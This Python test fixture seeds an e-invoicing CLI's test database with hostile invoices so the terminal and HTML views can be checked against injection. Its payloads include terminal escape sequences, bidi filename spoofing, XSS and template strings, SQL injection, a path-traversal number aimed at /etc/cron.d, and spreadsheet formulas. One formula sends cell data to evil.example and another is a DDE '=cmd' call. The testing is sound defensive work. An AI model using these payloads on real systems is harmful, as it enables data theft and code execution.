"""The outputs group's world: invoices whose every field says something hostile, on file before
the cases run, and the real CLI (in this process, in a wide colour terminal) to look at them."""

from __future__ import annotations

import json
import os
import pwd
import re
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path

from rich.color import ColorSystem
from typer.testing import CliRunner

from einvoice.approval import workflow
from einvoice.approval.suppliers import SupplierData, save_supplier
from einvoice.cli import app
from einvoice.cli import common as cli_common
from einvoice.context import Context
from einvoice.lifecycle import Status
from einvoice.pipeline import Submission, ingest
from tests.conftest import register
from tests.hostile import documents as d
from tests.hostile.harness import Cases, Env

cases = Cases()
SGR = re.compile(r"\x1b\[[0-9;]*m")  # the terminal's own colours, which rich writes


@dataclass(frozen=True)
class Family:
    """Hostile text: ``xml`` goes into every field of an invoice, ``raw`` (which XML cannot
    carry) into its file name, the mail's sender and subject, and a note; ``shown`` is what a
    clerk must read of them in the terminal, ``page`` in the HTML page."""

    xml: str
    raw: str
    shown: tuple[str, ...]
    page: tuple[str, ...]


FAMILIES = {
    "markup": Family("[/] [link=https://evil.example]Stadtwerke[/link] [bold red]x :warning:",
                     "[/b] [link=https://evil.example]klick[/link]",
                     ("[/] [link=https://evil.example]Stadtwerke[/link] [bold red]x :warning:",
                      "[/b] [link=https://evil.example]klick[/link]"),
                     ("[link=https://evil.example]Stadtwerke[/link]",)),
    "escapes": Family("CSI \x9b2J NEL \x85 DEL \x7f",
                      "\x1b[2J\x1b[H \x1b]0;pwned\x07 \x1b]8;;https://evil.example\x1b\\klick"
                      "\x1b]8;;\x1b\\ \x08\x08 \r",
                      ("CSI ⟨U+009B⟩2J NEL ⟨U+0085⟩ DEL ␡", "␛[2J␛[H ␛]0;pwned␇",
                       "␛]8;;https://evil.example␛\\klick"),
                      ("CSI",)),
    "bidi": Family("\u202eevil\u202c a\u200bb \ufeffBOM \u2066iso\u2069 \u061carab",
                   "rechnung\u202egpj.exe \u200b",
                   ("⟨U+202E⟩evil⟨U+202C⟩ a⟨U+200B⟩b", "rechnung⟨U+202E⟩gpj.exe"),
                   ("evil",)),
    "html": Family("<script>alert(1)</script> <img src=x onerror=alert(2)> {{7*7}} ${7*7} "
                   "<%= 7*7 %>",
                   "<b>fett</b>{{7*7}}",
                   ("<script>alert(1)</script> <img src=x onerror=alert(2)> {{7*7}} ${7*7}",
                    "<b>fett</b>{{7*7}}"),
                   ("<script>alert(1)</script>", "{{7*7}}", "<b>fett</b>{{7*7}}")),
}
FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1;"Rechnung")', "+1+1", "-2+3",
            "@SUM(A1)", "=cmd|' /C calc'!A0")
SQL_SELLERS = ("Rabatt 100% AG", "Under_score KG", "Back\\slash e.K.",
               "O'Brien ' OR 1=1 -- GmbH", "Plain GmbH")


@dataclass
class ViewsEnv(Env):
    login: str = ""
    family_ids: dict[str, int] = field(default_factory=dict)
    originals: dict[str, bytes] = field(default_factory=dict)
    junk_ids: dict[str, int] = field(default_factory=dict)
    formula_ids: list[int] = field(default_factory=list)
    batch: Path | None = None

    def cli(self, *args: str, code: int = 0) -> str:
        """What the person at the terminal reads (stdout and stderr), our colours taken out."""
        result = CliRunner().invoke(app, list(args), catch_exceptions=False)
        assert result.exit_code == code, (args, result.exit_code, result.output[-2000:])
        return SGR.sub("", result.output)

    def timed_cli(self, *args: str, code: int = 0) -> str:
        with self.timed():
            return self.cli(*args, code=code)

    def submit(self, data: bytes, name: str, channel: str = "cli", sender: str | None = None,
               subject: str | None = None) -> int:
        sub = Submission(data, channel, filename=name, sender=sender, subject=subject)
        (outcome,) = ingest(self.ctx, sub).outcomes
        return outcome.invoice_id

    def sample(self) -> bytes:
        return d.corpus_bytes(self.corpus, d.COMPREHENSIVE)


def _terminal(env: ViewsEnv) -> None:
    """The CLI on this database, as a wide colour terminal would show it."""
    os.environ.update({"EINVOICE_DATABASE_URL": env.ctx.settings.db_url,
                       "EINVOICE_DATA_DIR": str(env.ctx.settings.data_dir),
                       "EINVOICE_FOUR_EYES_THRESHOLD": "1e12",
                       "EINVOICE_DATEV_DEFAULT_ACCOUNT": "4999",
                       "EINVOICE_DATEV_DEFAULT_CREDITOR": "79999", "COLUMNS": "1000"})
    os.environ.pop("EINVOICE_CONFIG", None)
    os.chdir(env.work)
    for console in (cli_common.console, cli_common.err):
        console._width = None  # a width fixed at import yields to COLUMNS
        console._force_terminal = True
        console._color_system = ColorSystem.TRUECOLOR


def _hostile_cases(env: ViewsEnv) -> None:
    """Per family: an invoice saying it everywhere, mailed with it as sender name, subject
    and file name, put on hold with it as the note; and an unreadable file named with it."""
    for name, fam in FAMILIES.items():
        data = d.saying(env.sample(), fam.xml, f"{name.upper()}-1")
        invoice_id = env.submit(data, f"{fam.raw}.xml", "mail",
                                sender=f"{fam.raw} <lieferant@example.com>", subject=fam.raw)
        workflow.hold(env.ctx, invoice_id, env.login, fam.raw)
        env.family_ids[name] = invoice_id
        env.originals[name] = data
        env.junk_ids[name] = env.submit(b"<kaputt " + name.encode(), f"{fam.raw}.xml",
                                        "upload")
        save_supplier(env.ctx, SupplierData(f"{name} {fam.xml}"))
        register(env.ctx, f"hostile-{name}", role="viewer", name=f"{fam.raw} {fam.xml}",
                 offices=json.dumps([fam.raw]))


def _sql_sellers(env: ViewsEnv) -> None:
    for i, seller in enumerate(SQL_SELLERS):
        data = d.replaced(d.renumber(env.sample(), f"SQL-{i}"), d.SELLER, d.escaped(seller),
                          -1)
        env.submit(data, f"sql-{i}.xml")


def _formulas(env: ViewsEnv) -> None:
    """Invoices saying a formula in every field, approved, waiting for the export."""
    for formula in FORMULAS:
        data = d.saying(env.sample(), formula)
        invoice_id = env.submit(data, f"{formula}.xml")
        workflow.approve(env.ctx, invoice_id, "alice")
        env.formula_ids.append(invoice_id)
    data = d.renumber(env.sample(), "../../../../etc/cron.d/evil\\..\\CON")
    invoice_id = env.submit(data, "path.xml")
    workflow.approve(env.ctx, invoice_id, "alice")
    env.formula_ids.append(invoice_id)


def make(ctx: Context, corpus: Path, work: Path) -> ViewsEnv:
    env = ViewsEnv(ctx, corpus, work, login=pwd.getpwuid(os.geteuid()).pw_name)
    ctx.settings.four_eyes_threshold = Decimal("1e12")
    register(ctx, env.login, role="admin")
    register(ctx, "alice", "bob")
    _terminal(env)
    _hostile_cases(env)
    _sql_sellers(env)
    _formulas(env)
    return env


def alive(env: ViewsEnv) -> None:
    number = env.unique("OK")
    env.submit(d.renumber(d.corpus_bytes(env.corpus, d.MINIMAL), number), f"{number}.xml")
    rows = json.loads(env.cli("list", "--json", "--search", number))
    assert [(r["number"], r["status"]) for r in rows] == [(number, Status.PENDING)], rows
